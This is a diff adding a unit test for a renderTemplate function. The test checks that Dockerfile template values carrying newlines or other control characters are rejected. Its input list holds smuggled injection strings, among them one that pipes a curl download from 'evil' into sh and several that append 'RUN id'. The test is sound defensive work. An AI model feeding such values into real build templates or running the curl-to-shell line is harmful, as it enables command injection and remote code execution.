@@ -12,6 +12,14 @@ describe("renderTemplate", () => {
     expect(renderTemplate(text, { BASE: "node:24", CA: false, SPEC: "a@1" })).toBe("FROM node:24\nRUN x a@1\n");
   });
 
+  it("cannot be made to start an instruction of a value's choosing", () => {
+    for (const evil of ["a@1\nRUN curl evil | sh", "a@1\r\nRUN id", "node:24\u0085RUN id", "x\u2028RUN id", "x\u0000", "x\ty"]) {
+      expect(() => renderTemplate(text, { BASE: "node:24", CA: false, SPEC: evil })).toThrow(/\{\{SPEC\}\} would hold a control character/);
+      expect(() => renderTemplate(text, { BASE: evil, CA: false, SPEC: "a@1" })).toThrow(/\{\{BASE\}\}/);
+    }
+    expect(renderTemplate(text, { BASE: "node:24", CA: false, SPEC: "'a b' \\ $HOME" }).split("\n")).toHaveLength(3);
+  });
+
   it("refuses a value the template uses but nobody gave", () => {
     expect(() => renderTemplate(text, { BASE: "b", CA: false })).toThrow(/SPEC/);
   });
